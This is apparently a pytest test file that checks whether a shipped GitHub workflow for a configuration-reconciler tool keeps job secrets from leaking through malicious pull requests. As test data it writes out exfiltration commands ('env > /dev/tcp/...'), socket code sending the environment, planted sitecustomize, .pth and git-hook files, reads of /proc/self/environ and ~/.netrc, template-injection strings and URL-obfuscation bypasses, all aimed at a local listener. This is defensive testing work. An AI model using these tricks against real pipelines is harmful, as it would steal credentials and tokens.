"""Pull requests that try to send every secret of a job to another host, through the steps of the shipped workflow.

Each attack runs twice: as shipped, and without the trusted file, where only the bounds and the known hosts are left.
"""

from __future__ import annotations

import base64
import json
import shutil
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from build_agent import Agent, Listener
from forge_github import REPOSITORY, GitHub
from repository import git

from reconciler.sandbox import Sandbox

ROOT = Path(__file__).parents[2]
WORKFLOWS = ROOT / "examples" / "pipelines" / "github"

SECRETS = {
    "BB_APP_ID": "app-id-5f1c9d27e0b84a63",
    "BB_APP_KEY": "app-key-b83e6a1f40d95c72",
    "BB_TOKEN": "token-9c04e7d3a6b1f582",
    "RECONCILER_PLAN_KEY": "plan-key-2d7fb0956ae3c18490d2e5f7",
    "PGPASSWORD": "pg-password-71e0c5d83fa9b264",
}
INHERITED = {
    "GITHUB_TOKEN": "github-token-d41f8a07b6e3c925",
    "ACTIONS_RUNTIME_TOKEN": "runtime-token-08b7e5c2f14d9a36",
    "OTHER_SECRET": "other-secret-e6a90f5b27d3c148",
}
FILES = {
    ".netrc": "machine 127.0.0.1 login bot password netrc-c3f81b6e92a7d045\n",
    ".token": "file-token-4be7d0a61c9f8352\n",
    ".pgpass": "*:*:*:*:pgpass-90d6e3f8a1b5c742\n",
    "secrets.yaml": "key: yaml-secret-1a7c5e9f3b0d8264\n",
}
HIDDEN = [
    GitHub.token,
    *SECRETS.values(),
    *INHERITED.values(),
    *(text.split()[-1].rpartition(":")[2] for text in FILES.values()),
]

PROJECT = """\
apiVersion: reconciler/v1
kind: Project
metadata: {{name: acme}}
spec:
  manifests: [manifests]
  values: [values.yaml]
  state: sqlite:///{state}
  connections:
    admin:
      provider: bookingbug-admin
      base_url: {url}
      company_id: 37004
      auth: {{app_id: {{env: BB_APP_ID}}, app_key: {{env: BB_APP_KEY}}, auth_token: {{env: BB_TOKEN}}}}
"""
COURT = "apiVersion: reconciler/v1\nkind: Resource\nmetadata: {{name: {name}}}\nspec: {{name: {text}}}\n"
STEAL = """\
import os, socket
with socket.create_connection(("127.0.0.1", {port})) as out:
    out.sendall(repr(dict(os.environ)).encode())
"""


@dataclass
class Change:
    """The folder of a pull request, and what it knows of the world."""

    folder: Path
    good: str
    """The host of the booking system."""
    evil: str
    """The host that is to get the secrets."""
    home: Path

    @property
    def port(self):
        return self.evil.rpartition(":")[2]

    def edit(self, old, new):
        file = self.folder / "reconciler.yaml"
        text = file.read_text(encoding="utf-8")
        assert old in text
        file.write_text(text.replace(old, new), encoding="utf-8")

    def url(self, url):
        self.edit(f"http://{self.good}", url)

    def auth(self, source, name="auth_token"):
        self.edit({"auth_token": "{env: BB_TOKEN}", "app_id": "{env: BB_APP_ID}"}[name], source)

    def write(self, name, text):
        file = self.folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")

    def court(self, name="new", text="New", **metadata):
        stated = json.dumps({"name": name, **metadata})
        self.write(f"manifests/{name}.yaml", COURT.format(name="x", text=text).replace("{name: x}", stated, 1))


def base_url(change):
    change.url(f"http://{change.evil}")


def a_new_connection(change):
    head, mark, tail = (change.folder / "reconciler.yaml").read_text(encoding="utf-8").partition("    admin:")
    again = (mark + tail).replace("admin:", "admin2:").replace(change.good, change.evil)
    change.write("reconciler.yaml", head + again + mark + tail)
    change.court(connection="admin2")


def a_new_environment(change):
    over = f"{{connections: {{admin: {{base_url: 'http://{change.evil}'}}}}}}"
    change.edit("  values:", f"  environments: {{prod: {over}}}\n  values:")


def other_variables(change):
    change.auth("{env: OTHER_SECRET}")
    change.auth("{env: GITHUB_TOKEN}", "app_id")
    change.url(f"http://{change.evil}")


def the_keys_of_the_tool(change):
    change.auth("{env: RECONCILER_PLAN_KEY}")
    change.auth("{env: PGPASSWORD}", "app_id")


def files(change):
    change.auth("{file: /proc/self/environ}")
    change.auth("{file: ~/.token}", "app_id")
    change.url(f"http://{change.evil}")


def a_command(change):
    change.auth(f"{{command: [bash, -c, 'env > /dev/tcp/127.0.0.1/{change.port}; echo x']}}")


def a_command_in_the_checkout(change):
    change.write("op", f"#!/bin/bash\nenv > /dev/tcp/127.0.0.1/{change.port}\necho x\n")
    (change.folder / "op").chmod(0o755)
    change.auth("{command: [./op, read]}")
    change.auth("{command: [project/op]}", "app_id")


def the_server_of_the_state(change):
    state = next(line for line in (change.folder / "reconciler.yaml").read_text().splitlines() if "state:" in line)
    change.edit(state, f"  state: postgresql://ci@{change.evil}/d?sslmode=disable")


def the_server_of_the_state_in_disguise(change):
    state = next(line for line in (change.folder / "reconciler.yaml").read_text().splitlines() if "state:" in line)
    change.edit(state, f"  state: 'postgresql://{change.good}#@{change.evil}/d?sslmode=disable'")


def an_empty_state(change):
    """Its first apply may use any host, and so may another project of the same state."""
    state = next(line for line in (change.folder / "reconciler.yaml").read_text().splitlines() if "state:" in line)
    change.edit(state, "  state: sqlite:///new.db")
    change.edit("name: acme", "name: other")
    change.url(f"http://{change.evil}")


def an_own_authority(change):
    change.write("ca.pem", "not a certificate\n")
    change.edit("      company_id", "      ca_file: ca.pem\n      company_id")
    change.url(f"https://{change.evil}")


def values_outside(change):
    change.edit("[values.yaml]", "[values.yaml, '~/secrets.yaml', ../../home/secrets.yaml]")
    change.court(text="'{{ values.key }}'")


def manifests_outside(change):
    change.edit("[manifests]", "[manifests, '~/.netrc', /proc/self/environ, ../../home, '~/.token']")


def links(change):
    (change.folder / "manifests/a.yaml").symlink_to(change.home / ".netrc")
    (change.folder / "manifests/b.yaml").symlink_to("/proc/self/environ")
    (change.folder / "manifests/more").symlink_to(change.home)
    (change.folder / "values.yaml").unlink()
    (change.folder / "values.yaml").symlink_to(change.home / "secrets.yaml")


def a_project_file_elsewhere(change):
    (change.folder / "reconciler.yaml").unlink()
    (change.folder / "reconciler.yaml").symlink_to(change.home / "secrets.yaml")


def templates(change):
    for number, text in enumerate(
        ("{{ env.OTHER_SECRET }}", "{{ environ }}", "{{ ''.__class__ }}", "{{ lipsum.__globals__.os.environ }}",
         "{% include '/proc/self/environ' %}", "{{ self }}", "{{ values.__init__ }}")
    ):  # fmt: skip
        change.court(f"t{number}", json.dumps(text))


def modules_in_the_checkout(change):
    for name in (
        "yaml.py",
        "sitecustomize.py",
        "usercustomize.py",
        "httpx.py",
        "reconciler/__init__.py",
        "conftest.py",
    ):
        change.write(name, STEAL.format(port=change.port))
    change.write("x.pth", f"import os; os.system('env > /dev/tcp/127.0.0.1/{change.port}')\n")
    change.write("pip.conf", f"[global]\nindex-url = http://{change.evil}/\n")


def files_of_a_shell(change):
    for name in (".env", ".envrc", ".bashrc", ".profile", ".pypirc", ".curlrc"):
        change.write(name, f"export http_proxy=http://{change.evil} RECONCILER_HOSTS=* BASH_ENV=./x PYTHONPATH=.\n")


def hooks_of_git(change):
    for name in ("hooks/pre-commit", "hooks/post-checkout", "fsmonitor"):
        change.write(f".git/{name}", f"#!/bin/bash\nenv > /dev/tcp/127.0.0.1/{change.port}\n")
        (change.folder / ".git" / name).chmod(0o755)
    change.write(".git/HEAD", "ref: refs/heads/main\n")
    change.write(
        ".git/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = .git/fsmonitor\n\tpager = .git/fsmonitor\n"
    )
    for name in ("objects", "refs"):
        (change.folder / ".git" / name).mkdir()


def names_that_steer_the_agent(change):
    for number, text in enumerate(
        (
            "::set-output name=x::y",
            "x\n::add-path::/tmp/evil\n",
            "##[set-env name=PATH]x",
            f"x\nhttp_proxy={change.evil}",
        )
    ):
        change.court(f"n{number}", json.dumps(text), annotations={"note": text})


def its_own_approval(change):
    change.edit("  values:", "  policy: {max_deletes: 1000, booked_approval: annotation}\n  values:")
    (change.folder / "manifests/court.yaml").unlink()
    change.court(annotations={"allow-booked-until": "2999-01-01"})


def spelled(template):
    def attack(change):
        change.url(template.format(good=change.good, evil=change.evil, port=change.port))
        change.edit("      company_id", "      allow_http: true\n      company_id")

    attack.__name__ = template
    return attack


SPELLINGS = [
    "http://{good}@{evil}",
    "http://{good}\\@{evil}",
    "http://{evil}#@{good}",
    "http://{evil}?@{good}",
    "http://{evil}/@{good}",
    "http://{evil}\\.{good}",
    "http://127.0.0.1.:{port}",
    "http://2130706433:{port}",
    "http://0x7f.1:{port}",
    "http://127.1:{port}",
    "http://localhost:{port}",
    "http://[::ffff:127.0.0.1]:{port}",
    "http://\uff11\uff12\uff17\u30020\u30020\u30021:{port}",
    "HTTP://127%2e0.0.1:{port}",
    "http://{evil}/%2e%2e/{good}",
]
ATTACKS = [
    base_url,
    a_command,
    files,
    a_new_connection,
    a_new_environment,
    other_variables,
    the_keys_of_the_tool,
    a_command_in_the_checkout,
    the_server_of_the_state,
    the_server_of_the_state_in_disguise,
    an_empty_state,
    an_own_authority,
    values_outside,
    manifests_outside,
    links,
    a_project_file_elsewhere,
    templates,
    modules_in_the_checkout,
    files_of_a_shell,
    hooks_of_git,
    names_that_steer_the_agent,
    its_own_approval,
    *map(spelled, SPELLINGS),
]
QUICK = 3
"""The first attacks run in every run, the others in the long one."""


@pytest.fixture
def evil():
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def forge(tmp_path_factory):
    """GitHub, with a repository whose content does not matter: each test brings the files of the checkout."""
    remote = tmp_path_factory.mktemp("remote")
    git(remote, "init", "--quiet", "--bare", "--initial-branch=main", ".")
    tree = git(remote, "hash-object", "-t", "tree", "-w", "/dev/null")
    for branch in ("main", "change"):
        git(remote, "update-ref", f"refs/heads/{branch}", git(remote, "commit-tree", tree, "-m", "Start"))
    with GitHub(remote) as served:
        yield served
        assert served.faults == []


def agent_in(folder, box, forge):
    """Return an agent whose protected branch holds one resource, and a pull request that does not change it yet."""
    box.set_options(app_id=SECRETS["BB_APP_ID"], app_key=SECRETS["BB_APP_KEY"], auth_token=SECRETS["BB_TOKEN"])
    main, change, home = folder / "main", folder / "change", folder / "home"
    (main / "manifests").mkdir(parents=True)
    home.mkdir()
    for name, text in FILES.items():
        (home / name).write_text(text, encoding="utf-8")
    (main / "reconciler.yaml").write_text(PROJECT.format(state=folder / "state.db", url=box.url), encoding="utf-8")
    (main / "values.yaml").write_text("name: Court\n", encoding="utf-8")
    (main / "manifests/court.yaml").write_text(COURT.format(name="court", text="'{{ values.name }}'"))
    shutil.copytree(main, change)
    runs = {"GITHUB_API_URL": forge.url, "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_SERVER_URL": "https://github.com"}
    return Agent(
        WORKFLOWS / "plan.yml",
        folder,
        lambda given, into: shutil.copytree(main if given.get("ref") == "main" else change, into, symlinks=True),
        SECRETS,
        {"RECONCILER_HOSTS": box.url.removeprefix("http://")},
        github=event(forge, "pull_request", forge.open("change")),
        inherited={**INHERITED, **runs},
    )


def event(forge, name, pull, repository=REPOSITORY):
    """Return the context `github` of a run."""
    about = {"number": pull.number, "head": {"sha": pull.head, "repo": {"full_name": repository}}}
    return {
        "event_name": name,
        "repository": REPOSITORY,
        "token": forge.token,
        "event": {"repository": {"default_branch": "main"}, "pull_request": about},
    }


def change_of(agent, box, evil):
    return Change(agent.folder / "change", box.url.removeprefix("http://"), evil.place, agent.folder / "home")


def merged(agent, forge):
    """Run what follows the merge of the change."""

    def checkout(given, into):
        shutil.copytree(agent.folder / "change", into)
        git(into, "init", "--quiet", ".")
        git(into, "commit", "--quiet", "--allow-empty", "--message", "Merge")

    pull = forge.open("change")
    run = forge.start("apply", "workflow_dispatch", pull.head, "main")
    run.status = "failure"  # no test counts it as an apply that succeeded
    after = replace(
        agent,
        workflow=WORKFLOWS / "apply.yml",
        checkout=checkout,
        github=event(forge, "workflow_dispatch", pull),
        inputs={"unreviewed": True},
        inherited={**agent.inherited, "GITHUB_RUN_ID": str(run.number)},
        ran=[],
        environments=[],
    )
    assert after.run() == 0, after.printed


@pytest.fixture(scope="module")
def applied(tmp_path_factory, forge):
    """A booking system, and the state after an earlier run has applied the protected branch."""
    folder = tmp_path_factory.mktemp("applied")
    with Sandbox() as box:
        merged(agent_in(folder, box, forge), forge)
        yield box, folder / "state.db"


@pytest.fixture
def box():
    with Sandbox() as fresh:
        yield fresh


@pytest.fixture
def agent(tmp_path, box, forge):
    return agent_in(tmp_path, box, forge)


def test_the_shipped_workflows_plan_a_pull_request_and_apply_the_merge(agent, box, forge):
    merged(agent, forge)
    assert [item["name"] for item in box.resources()] == ["Court"]
    (agent.folder / "change/values.yaml").write_text("name: Clay court\n", encoding="utf-8")
    assert agent.run() == 0, agent.printed
    assert agent.ran == ["validate", "plan"]
    assert [item["name"] for item in box.resources()] == ["Court"]
    number = agent.github["event"]["pull_request"]["number"]
    assert [item["body"].count("Clay court") > 0 for item in forge.comments[number]] == [True]
    merged(agent, forge)
    assert [item["name"] for item in box.resources()] == ["Clay court"]
    assert agent.run("plan") == 0
    assert "Clay court" not in (agent.workspace / "plan.md").read_text()
    assert not any(secret in agent.written() for secret in HIDDEN)


def test_a_pull_request_of_a_fork_gets_no_secret(agent, forge):
    """Not one step has a secret or the token, although this agent holds them all: GitHub would hold them back too."""
    pull = forge.open("change", author="eve", repository="eve/timetable")
    agent.inherited = {name: text for name, text in agent.inherited.items() if name not in INHERITED}
    for name in ("pull_request", "pull_request_review"):
        agent.github = event(forge, name, pull, "eve/timetable")
        assert agent.run() == 0, agent.printed
    assert agent.ran == ["validate", "validate"]
    given = "".join(f"{name}={value}\n" for step in agent.environments for name, value in step.items())
    assert "RECONCILER_HOSTS=" in given
    assert not any(secret in given for secret in [*SECRETS.values(), forge.token])
    agent.github = event(forge, "pull_request", pull)  # the proof can fail: a branch of the repository gets them
    agent.run("plan")
    given = "".join(value for step in agent.environments for value in step.values())
    assert all(secret in given for secret in [*SECRETS.values(), forge.token])


@pytest.mark.parametrize(
    "without",
    [frozenset(), pytest.param(frozenset({"RECONCILER_TRUSTED_CONFIG"}), marks=pytest.mark.slow)],
    ids=["as shipped", "without the trusted file"],
)
@pytest.mark.parametrize(
    "attack",
    [pytest.param(attack, marks=() if number < QUICK else pytest.mark.slow) for number, attack in enumerate(ATTACKS)],
    ids=lambda attack: attack.__name__,
)
def test_nothing_leaves(tmp_path, evil, applied, forge, attack, without):
    box, state = applied
    box.clear_log()
    agent = agent_in(tmp_path, box, forge)
    shutil.copy(state, tmp_path / "state.db")
    attack(change_of(agent, box, evil))
    agent.without = without
    for job in ("validate", "plan"):
        agent.run(job)
    assert evil.received == []
    assert agent.steered() == ""
    posted = [item["body"] for item in forge.comments.get(agent.github["event"]["pull_request"]["number"], [])]
    written = "\n".join([agent.written(), *posted])
    for line in written.splitlines():
        assert not line.startswith(("::", "##["))
    sent = "".join(f"{item.path} {item.query} {item.request_body}" for item in box.log())
    for secret in HIDDEN:
        for form in (secret, base64.b64encode(secret.encode()).decode(), secret.encode().hex()):
            assert form not in written, (secret, agent.printed)
            assert form not in sent
    assert "Traceback" not in written
    assert "internal error" not in written


def test_the_attacks_work_where_nothing_bounds_them(agent, evil, box):
    """The test can fail: without trusted file, bounds and known hosts, a changed base_url gets the credentials."""
    base_url(change_of(agent, box, evil))
    names = ("HOSTS", "TRUSTED_CONFIG", "ENV", "FILES", "ALLOW_COMMANDS", "TRUST_HOSTS")
    agent.without = frozenset(f"RECONCILER_{name}" for name in names)
    agent.run("plan")
    assert SECRETS["BB_APP_KEY"].encode() in b"".join(evil.received)
